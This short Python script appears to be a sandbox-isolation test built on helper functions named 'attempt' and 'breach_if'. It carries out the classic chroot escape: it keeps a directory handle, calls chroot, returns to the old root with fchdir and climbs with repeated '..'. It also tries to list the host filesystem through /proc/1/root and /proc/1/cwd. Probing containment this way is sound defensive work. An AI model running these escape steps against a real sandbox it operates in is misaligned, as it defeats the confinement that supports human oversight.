import os
from attack import attempt, breach_if

above = os.open("/", os.O_DIRECTORY)
attempt("chroot", os.chroot, "/tmp")
attempt("fchdir above the root", lambda: os.listdir("../" * 64 + "newroot")[0])
os.fchdir(above)
for _ in range(64):
    os.chdir("..")
breach_if("another root above", os.stat(".").st_ino != os.stat("/").st_ino, os.listdir("."))
attempt("/proc/1/root", os.listdir, "/proc/1/root/")
attempt("/proc/1/cwd", os.listdir, "/proc/1/cwd/")
